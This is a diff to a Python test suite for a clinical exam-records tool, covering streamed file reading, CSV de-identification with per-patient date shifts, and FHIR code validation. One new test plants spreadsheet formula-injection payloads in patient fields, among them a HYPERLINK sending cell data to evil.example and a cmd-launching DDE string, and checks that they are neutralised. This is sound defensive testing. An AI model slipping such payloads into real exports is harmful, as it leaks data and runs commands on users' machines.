@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import csv
+import datetime as dt
 import io
 import json
 import stat
@@ -119,9 +120,25 @@ def test_a_file_over_the_size_limit_is_refused_before_it_is_read(
         tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr("core.exchange.records_file.MAX_FILE_BYTES", 1000)
     big = tmp_path / "big.json"
-    big.write_text(dumps_records(RECORDS), encoding="utf-8")
+    big.write_text(json.dumps(json.loads(dumps_records(RECORDS)), indent=2), encoding="utf-8")
     with pytest.raises(RecordError, match="files larger than 0 MiB are refused"):
         read_records(big)
+    # the layout NeuroExam writes, one record per line, is read line by line without that limit
+    streamed = tmp_path / "streamed.json"
+    streamed.write_text(dumps_records(RECORDS), encoding="utf-8")
+    seen: list[int] = []
+    assert [r.patient.id for r in read_records(streamed, seen.append)] == [
+        r.patient.id for r in RECORDS]
+    assert seen == list(range(1, len(RECORDS) + 1))
+
+
+def test_a_damaged_line_of_a_streamed_collection_is_named_by_its_index(tmp_path: Path) -> None:
+    lines = dumps_records(RECORDS).splitlines()
+    lines[3] = lines[3].replace('"hip_flexion":"5"', '"hip_flexion":"7"', 1)
+    damaged = tmp_path / "damaged.json"
+    damaged.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    with pytest.raises(RecordError, match=r"records\[2\]\.exams\[\d\]\.motor\.\w+\.hip_flexion"):
+        read_records(damaged)
 
 
 def test_a_conflict_in_the_last_record_writes_nothing_and_shows_the_difference(
@@ -202,6 +219,71 @@ def test_deidentified_csv_has_no_name_birth_date_record_id_or_exam_id() -> None:
     assert row["patient_id"].startswith("P-")
 
 
+@pytest.mark.parametrize("deidentified", [False, True], ids=["identified", "de-identified"])
+def test_text_a_spreadsheet_would_run_as_a_formula_is_neutralised(deidentified: bool) -> None:
+    document = demo_record().to_json_dict()
+    document["patient"]["family_name"] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    document["patient"]["given_name"] = "+Anna"
+    document["exams"][0]["examiner"] = "-2+3"
+    document["exams"][0]["notes"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    document["surgeries"][0]["procedure"] = "\tmicrodiscectomy"
+    record = record_from_document(document)
+    text = csv_text([record], Pseudonymiser(b"k" * 32) if deidentified else None)
+    for row in rows_of(text):
+        for name, cell in row.items():
+            if name not in ("days_since_surgery",):
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    first = rows_of(text)[0]
+    if not deidentified:
+        assert first["family_name"] == "'" + document["patient"]["family_name"]
+        assert first["given_name"] == "'+Anna" and first["examiner"] == "'-2+3"
+        assert first["notes"] == "'" + document["exams"][0]["notes"]
+    # every field is quoted, so a cell cannot spill into its neighbours
+    assert text.removeprefix("\ufeff").startswith('"patient_id","')
+
+
+def test_negative_day_counts_stay_numbers() -> None:
+    rows = rows_of(csv_text([demo_record()]))
+    assert rows[0]["days_since_surgery"].startswith("-")
+    assert int(rows[0]["days_since_surgery"]) < 0
+
+
+def test_deidentified_dates_move_by_one_keyed_offset_per_patient_keeping_intervals() -> None:
+    keyed = Pseudonymiser(b"k" * 32)
+    plain, shifted = rows_of(csv_text(RECORDS)), rows_of(csv_text(RECORDS, keyed))
+    offsets: dict[str, set[int]] = {}
+    for before, after in zip(plain, shifted, strict=True):
+        moved = (dt.date.fromisoformat(after["exam_date"])
+                 - dt.date.fromisoformat(before["exam_date"])).days
+        offsets.setdefault(before["patient_id"], set()).add(moved)
+        assert after["days_since_surgery"] == before["days_since_surgery"]
+        if before["surgery_date"]:
+            assert (dt.date.fromisoformat(after["surgery_date"])
+                    - dt.date.fromisoformat(before["surgery_date"])).days == moved
+    assert all(len(found) == 1 for found in offsets.values())
+    shifts = {found.pop() for found in offsets.values()}
+    assert 0 not in shifts and all(abs(s) <= 365 for s in shifts)
+    assert len(shifts) > 1, "patients must not share one offset"
+    for record in RECORDS:
+        assert keyed.day_shift(record.patient.id) == Pseudonymiser(b"k" * 32).day_shift(
+            record.patient.id)
+    assert any(keyed.day_shift(r.patient.id) != Pseudonymiser(b"j" * 32).day_shift(r.patient.id)
+               for r in RECORDS)
+    text = csv_text([demo_record()], keyed)
+    assert all(exam.date.isoformat() not in text for exam in demo_record().exams)
+
+
+def test_the_deidentified_column_order_is_the_documented_stable_one() -> None:
+    expected = (ROOT / "tests" / "data" / "deidentified-columns.txt").read_text(
+        encoding="utf-8").split()
+    header = next(csv.reader(io.StringIO(csv_text([], Pseudonymiser(b"k" * 32)).removeprefix(
+        "\ufeff"))))
+    assert header == expected
+    page = (ROOT / "docs" / "csv-columns.md").read_text(encoding="utf-8")
+    positions = [page.index(f"| `{name}` |") for name in header]
+    assert positions == sorted(positions)
+
+
 def test_pseudonyms_are_stable_for_a_key_and_differ_between_keys() -> None:
     one, again, other = Pseudonymiser(b"a" * 32), Pseudonymiser(b"a" * 32), Pseudonymiser(b"b" * 32)
     assert one.pseudonym("MRN-1") == again.pseudonym("MRN-1") != other.pseudonym("MRN-1")
@@ -278,9 +360,11 @@ def test_the_demo_bundle_validates_and_carries_every_finding() -> None:
     motor = [o for o in post if o["code"]["coding"][0]["code"] == "motor.great_toe_extension"]
     left = next(o for o in motor if o["bodySite"]["text"].endswith("left"))
     assert left["valueCodeableConcept"]["coding"][0]["code"] == "1"
-    assert left["bodySite"]["extension"][0]["valueCodeableConcept"]["coding"][0]["code"] == "7771000"
-    patellar = next(o for o in post if o["code"]["coding"][0]["code"] == "reflex.patellar")
-    assert {"system": "http://loinc.org", "code": "32392-3"} in patellar["code"]["coding"]
+    assert left["bodySite"]["extension"][0]["valueCodeableConcept"]["coding"][0] == {
+        "system": "http://snomed.info/sct", "code": "419161000", "display": "Unilateral left"}
+    patellar = next(o for o in post if "reflex.patellar" in [c["code"] for c in o["code"]["coding"]])
+    assert {"system": "http://loinc.org", "code": "32392-3",
+            "display": "Deep tendon reflex of Patella"} in patellar["code"]["coding"]
     assert len(resources(document, "Procedure")) == 1
     assert resources(document, "Patient")[0]["identifier"][0]["value"] == "DEMO-0001"
 
@@ -289,14 +373,15 @@ def test_each_report_carries_the_assessment_and_the_clinician_pdf() -> None:
     document = bundle([demo_record()], clinician_pdf(Settings(), deterministic=True))
     reports = resources(document, "DiagnosticReport")
     assert len(reports) == 3
-    post = next(r for r in reports if r["identifier"][0]["value"] == "post-1")
+    post = next(r for r in reports if r["identifier"][-1]["value"] == "post-1")
     level = assess(demo_record(), "post-1").triage.level.label
     assert post["conclusionCode"][0]["coding"][0]["code"] == level
     assert "decision-support aid" in post["conclusion"]
     pdf = base64.b64decode(post["presentedForm"][0]["data"])
     text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
     assert "DEMO-0001" in text and "Exam 2026-03-09 (postoperative)" in text
-    observation_ids = {f"urn:uuid:{o['id']}" for o in resources(document, "Observation")}
+    observation_ids = {e["fullUrl"] for e in document["entry"]
+                       if e["resource"]["resourceType"] == "Observation"}
     assert {r["reference"] for r in post["result"]} <= observation_ids
 
 
@@ -310,6 +395,7 @@ def test_not_testable_findings_say_why_instead_of_a_value() -> None:
     assert not any(key.startswith("value") for key in absent[0])
     assert absent[0]["dataAbsentReason"]["coding"][0]["code"] == "not-performed"
     assert absent[0]["note"] == [{"text": "Not testable: pain"}]
+    assert absent[0]["extension"][0]["valueCoding"]["code"] == "pain"
 
 
 @pytest.mark.parametrize("record", RECORDS, ids=lambda r: r.patient.id)
@@ -318,13 +404,18 @@ def test_every_vignette_bundle_validates_with_only_published_or_verified_codes(
     document = bundle([record])
     Bundle.model_validate(document)
     published = own_codes()
-    verified = {("http://loinc.org", "32392-3"), ("http://snomed.info/sct", "7771000"),
-                ("http://snomed.info/sct", "24028007"),
+    verified = {("http://loinc.org", "32392-3"), ("http://loinc.org", "72514-3"),
+                ("http://snomed.info/sct", "419161000"), ("http://snomed.info/sct", "419465000"),
                 ("http://terminology.hl7.org/CodeSystem/observation-category", "exam"),
                 ("http://terminology.hl7.org/CodeSystem/data-absent-reason", "not-performed"),
-                ("http://unitsofmeasure.org", "deg"), ("urn:neuroexam:software", "neuroexam-0.1.0")}
-    used = {(c["system"], c["code"]) for c in codings(document)}
+                ("http://terminology.hl7.org/CodeSystem/v2-0203", "MR"),
+                ("http://terminology.hl7.org/CodeSystem/v2-0074", "PHY"),
+                ("http://unitsofmeasure.org", "deg")}
+    found = codings(document)
+    used = {(c["system"], c["code"]) for c in found}
     assert used <= published | verified
+    assert all(c.get("display") for c in found if c["system"] != "http://unitsofmeasure.org")
+    assert not any(c["system"].startswith("urn:") for c in found)
 
 
 @settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
